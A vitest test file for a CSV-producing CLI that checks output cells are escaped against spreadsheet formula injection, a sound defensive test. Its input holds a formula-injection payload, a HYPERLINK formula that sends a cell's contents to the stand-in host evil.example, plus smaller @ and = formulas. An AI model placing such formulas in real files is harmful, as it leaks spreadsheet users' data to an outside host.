// Issue 17: every CSV the CLI writes opens in a municipal officer's spreadsheet; no cell may run as a formula,
// and a file the CLI wrote reads back to the same values.
import { afterAll, describe, expect, it } from 'vitest';
import { spawnSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parseCsvText } from '@terreau/core';
import { runTerreau } from './run-in-process.js';

const dir = mkdtempSync(join(tmpdir(), 'terreau-formula-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1;"Voir")';
const input = [
  'id,name,type,communeCode,description,website',
  `a1,"${HYPERLINK.replace(/"/g, '""')}",association,26108,@SUM(1+1),`,
  'a2,+33 4 75 00 00 00,scop,26108,"-2+3",',
  "a3,'=déjà gardé,association,26108,normal,",
  'a4,Rejeté,=1+1,26108,,',
].join('\n');

// every cell of a CSV file as a spreadsheet sees it (quotes taken off, nothing unguarded)
const rawCells = (text: string) =>
  text
    .split(/\r?\n/)
    .filter(Boolean)
    .flatMap((line) => line.match(/("([^"]|"")*"|[^,]*)(,|$)/g) ?? [])
    .map((c) => c.replace(/,$/, ''))
    .map((c) => (c.startsWith('"') ? c.slice(1, -1).replace(/""/g, '"') : c));

describe('CLI CSV outputs carry no live formula', { timeout: 60_000 }, () => {
  // --jobs 1 runs in-process from the sources; worker threads need the built command
  const cli = join(__dirname, '../../../packages/core/dist/node/cli.js');
  const terreau = async (argv: string[]) => {
    if (!argv.includes('2')) return runTerreau(argv);
    if (!existsSync(cli)) throw new Error('Build first (npm run build): --jobs 2 runs the built terreau command.');
    const r = spawnSync(process.execPath, [cli, ...argv], { encoding: 'utf8' });
    return { code: r.status, stdout: r.stdout, stderr: r.stderr };
  };
  for (const jobs of ['1', '2']) {
    it(`validate --jobs ${jobs}: output and rejects guarded, and the output reads back to the same names`, async () => {
      const file = join(dir, `in-${jobs}.csv`);
      writeFileSync(file, input);
      const out = join(dir, `out-${jobs}.csv`);
      const rejects = join(dir, `rej-${jobs}.csv`);
      const r = await terreau(['validate', file, '--out', out, '--rejects', rejects, '--jobs', jobs, '--lang', 'en']);
      expect(r.stderr).toContain('4 records read = 3 valid + 1 rejected.');
      expect(r.code).toBe(1);
      const written = readFileSync(out, 'utf8');
      const cells = rawCells(written);
      expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[+-]?\d/.test(c))).toEqual([]);
      expect(cells).toContain(`'${HYPERLINK}`);
      const back = parseCsvText(written).rows;
      expect(back.map((row) => row.name)).toEqual([HYPERLINK, '+33 4 75 00 00 00', "=déjà gardé"]);
      expect(back.map((row) => row.description)).toEqual(['@SUM(1+1)', '-2+3', 'normal']);
      const rejected = readFileSync(rejects, 'utf8');
      expect(rejected).toContain("'=1+1");
      expect(rawCells(rejected).filter((c) => /^[=+\-@]/.test(c))).toEqual([]);
      // the output validates again to the same actors
      const again = await runTerreau(['validate', out, '--format', 'ndjson', '--jobs', '1']);
      expect(again.code).toBe(0);
      expect(again.stdout.trim().split('\n').map((l) => (JSON.parse(l) as { name: string }).name)).toEqual([HYPERLINK, '+33 4 75 00 00 00', "=déjà gardé"]);
    });
  }

  it('score writes guarded names too', async () => {
    const file = join(dir, 'score.csv');
    writeFileSync(file, input);
    const r = await runTerreau(['score', file, '--jobs', '1', '--rejects', join(dir, 'score-rej.csv')]);
    expect(r.stdout).toContain(`'${HYPERLINK.replace(/"/g, '""')}`);
    expect(rawCells(r.stdout).filter((c) => /^[=@]/.test(c))).toEqual([]);
  });
});
